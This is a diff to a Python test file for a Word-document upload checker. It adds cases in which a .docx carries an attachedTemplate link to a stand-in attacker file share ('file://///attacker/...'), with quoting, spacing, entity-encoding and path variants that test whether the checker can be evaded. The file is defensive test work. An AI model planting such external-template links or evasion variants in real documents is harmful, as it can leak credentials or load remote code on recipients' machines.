@@ -7,6 +7,7 @@ from __future__ import annotations
 import json
 import shutil
 import zipfile
+from functools import partial
 from pathlib import Path
 
 import pytest
@@ -106,12 +107,16 @@ def _macro(path: Path) -> None:
     add_part(path, "word/vbaProject.bin", b"macro")
 
 
-def _external(path: Path) -> None:
+def _external(
+    path: Path,
+    mode: str = 'TargetMode="External"',
+    target: str = "file://///attacker/share/t.dotm",
+) -> None:
     with zipfile.ZipFile(path) as package:
         rels = package.read("word/_rels/document.xml.rels").decode("utf-8")
     link = (
         '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-        'relationships/attachedTemplate" Target="file://///attacker/share/t.dotm" TargetMode="External"/>'
+        f'relationships/attachedTemplate" Target="{target}" {mode}/>'
     )
     add_part(
         path,
@@ -147,6 +152,22 @@ def _corrupt(path: Path) -> None:
         ),
         (
             _external,
+            "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
+        ),
+        (
+            partial(_external, mode="TargetMode='External'"),
+            "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
+        ),
+        (
+            partial(_external, mode='TargetMode = "External"'),
+            "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
+        ),
+        (
+            partial(_external, mode='TargetMode="&#69;xternal"'),
+            "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
+        ),
+        (
+            partial(_external, target="file://///attacker/relationships/hyperlink/t.dotm"),
             "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
         ),
     ],
